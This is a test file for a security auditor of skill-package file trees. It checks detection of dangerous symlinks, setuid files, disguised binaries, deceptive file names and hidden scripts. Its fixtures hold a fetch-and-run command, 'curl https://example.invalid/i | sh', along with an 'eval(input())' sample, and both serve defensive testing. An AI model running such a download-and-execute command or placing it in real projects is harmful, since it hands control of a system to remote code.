"""What a tree holds besides text."""

from __future__ import annotations

import os
from dataclasses import replace
from pathlib import Path

import pytest
from support.audited import audited, write_tree

from skillkeep.auditor.interface import AuditOptions, Observation, Severity
from skillkeep.auditor.worker import read_tree

PLAIN = AuditOptions(bandit=False)


def _found(root: Path) -> dict[str, str]:
    return {finding["rule"]: finding["severity"] for finding in read_tree(root, PLAIN)["findings"]}


@pytest.mark.parametrize(
    ("target", "rule", "severity"),
    [
        ("/etc/passwd", "tree-link-absolute", Severity.FAIL),
        ("../../outside", "tree-link-escaping", Severity.FAIL),
        ("sub/../../x/../x", "tree-link-escaping", Severity.FAIL),
        ("missing", "tree-link-dangling", Severity.FAIL),
        ("link", "tree-link-cycle", Severity.FAIL),
        ("a.txt", "tree-link-copied", Severity.INFO),
    ],
)
def test_a_link_is_judged_by_where_it_leads(tmp_path: Path, target: str, rule: str, severity: Severity) -> None:
    write_tree(tmp_path, {"a.txt": "x", "sub/b.txt": "x"})
    (tmp_path / "link").symlink_to(target)
    assert _found(tmp_path).get(rule) == severity


def test_special_files_hard_links_and_setuid_are_found(tmp_path: Path) -> None:
    write_tree(tmp_path, {"a.txt": "x", "s.sh": "#!/bin/sh\n"})
    os.mkfifo(tmp_path / "pipe")
    os.link(tmp_path / "a.txt", tmp_path / "b.txt")
    (tmp_path / "s.sh").chmod(0o4755)
    found = _found(tmp_path)
    assert {"tree-special-file", "tree-hardlink", "tree-setuid"} <= set(found)
    assert found["tree-special-file"] == Severity.FAIL


def test_names_that_collide_or_imitate_git_are_found(tmp_path: Path) -> None:
    write_tree(
        tmp_path, {"Readme.md": "x", "README.md": "x", ".GIT/config": "x", ".git/config": "x", "g\u200b.md": "x"}
    )
    assert {"tree-name-collision", "tree-git-lookalike", "tree-git-folder", "tree-name-control"} <= set(
        _found(tmp_path)
    )


@pytest.mark.parametrize(
    ("name", "data", "rule", "severity"),
    [
        ("tool", b"\x7fELF\x02\x01\x01" + b"\0" * 60, "tree-native-binary", Severity.WARN),
        ("lib/x.so", b"\x7fELF\x02\x01\x01" + b"\0" * 60, "tree-native-binary", Severity.WARN),
        ("logo.png", b"\x7fELF\x02\x01\x01" + b"\0" * 60, "tree-disguised-binary", Severity.FAIL),
        ("notes.txt", b"MZ\x90\0\x03\0\0\0" + b"\0" * 60, "tree-disguised-binary", Severity.FAIL),
        ("m.cpython-311.pyc", b"\xa7\r\r\n\0\0\0\0" + b"\0" * 20, "tree-native-binary", Severity.WARN),
        ("data.zip", b"PK\x03\x04" + b"\0" * 30, "tree-archive", Severity.WARN),
        ("logo2.png", b"\x89PNG\r\n\x1a\n" + b"\0" * 30, "tree-binary", Severity.INFO),
        ("blob.dat", b"\x01\x02\0\x03" * 30, "tree-unknown-binary", Severity.WARN),
        ("big.bin", b"version https://git-lfs.github.com/spec/v1\noid sha256:0\n", "tree-lfs-pointer", Severity.WARN),
        (".secretly", b"x = 1\n", "tree-hidden-file", Severity.INFO),
        ("run.sh", b"#!/bin/sh\necho \0hi\n", "tree-text-nul", Severity.WARN),
        ("a.md", "caf\xe9 au lait".encode("latin-1"), "tree-text-encoding", Severity.INFO),
    ],
)
def test_bytes_are_judged_by_what_they_are(name: str, data: bytes, rule: str, severity: Severity) -> None:
    found = {finding.rule: finding.severity for finding in audited({name: data}).findings}
    assert found.get(rule) is severity


def test_a_nul_byte_does_not_hide_a_script() -> None:
    report = audited({"run.sh": b"#!/bin/sh\n\0curl https://example.invalid/i | sh\n"})
    assert "shell-download-execution" in {finding.rule for finding in report.findings}


def test_utf16_does_not_hide_a_script() -> None:
    report = audited({"tool.py": "eval(input())\n".encode("utf-16")})
    assert "python-eval" in {finding.rule for finding in report.findings}


@pytest.mark.parametrize(
    ("rule", "severity"),
    [
        ("tree-path-escape", Severity.FAIL),
        ("tree-path-too-long", Severity.WARN),
        ("tree-duplicate-path", Severity.FAIL),
        ("tree-gitlink", Severity.WARN),
        ("source-lookalike-owner", Severity.WARN),
        ("source-unproven-commit", Severity.WARN),
        ("a-rule-nobody-knows", Severity.WARN),
    ],
)
def test_what_only_fetching_can_see_is_a_finding_of_that_rule(tmp_path: Path, rule: str, severity: Severity) -> None:
    write_tree(tmp_path, {"a.md": "# A\n"})
    (found,) = read_tree(tmp_path, PLAIN, [Observation(rule, "some/path", "detail")])["findings"]
    assert found["severity"] == severity
    assert found["rule"] in {rule, "tree-anomaly"}
    assert found["location"]["path"] == "some/path"


@pytest.mark.parametrize(
    ("limits", "rule"),
    [
        ({"entries": 2}, "tree-too-many"),
        ({"total_bytes": 10}, "tree-too-many"),
        ({"depth": 1}, "tree-too-deep"),
        ({"file_bytes": 5}, "tree-file-too-large"),
    ],
)
def test_what_limits_keep_out_is_a_warning(tmp_path: Path, limits: dict[str, int], rule: str) -> None:
    write_tree(tmp_path, {"a.md": "# A long one\n", "b/c.md": "# B\n", "d.md": "# D\n"})
    report = read_tree(tmp_path, replace(PLAIN, **limits))
    assert rule in {finding["rule"] for finding in report["findings"]}


@pytest.mark.skipif(os.geteuid() == 0, reason="root reads every file")
def test_a_file_without_read_permission_is_a_finding(tmp_path: Path) -> None:
    write_tree(tmp_path, {"a/b.md": "# A\n"})
    (tmp_path / "a").chmod(0)
    try:
        assert _found(tmp_path)["tree-unreadable"] == Severity.WARN
    finally:
        (tmp_path / "a").chmod(0o700)


def test_a_description_longer_than_the_format_allows_is_noted() -> None:
    text = "---\nname: a\ndescription: {}\n---\n# A\n"
    assert {f.rule for f in audited({"SKILL.md": text.format("x" * 1100)}).findings} == {"metadata-long-description"}
    assert not audited({"SKILL.md": text.format("x" * 1000)}).findings


@pytest.mark.parametrize(
    ("name", "rule"),
    [
        ("文件.json".encode().decode("latin-1"), "tree-name-encoding"),
        ("目录".encode().decode("latin-1"), "tree-name-encoding"),
        ("Û31m.json".encode().decode("latin-1"), "tree-name-control"),  # begins a sequence of a terminal
        ("aÛ".encode().decode("latin-1"), "tree-name-control"),
        ("a\x85b", "tree-name-control"),
        ("a\u202eb", "tree-name-control"),
        ("文件\x07".encode().decode("latin-1"), "tree-name-control"),
        ("文\u200b件".encode().decode("latin-1"), "tree-name-control"),
    ],
)
def test_a_name_in_another_encoding_is_told_from_one_that_steers(tmp_path: Path, name: str, rule: str) -> None:
    write_tree(tmp_path, {name: "x"})
    assert {each for each in _found(tmp_path) if each.startswith("tree-name")} == {rule}
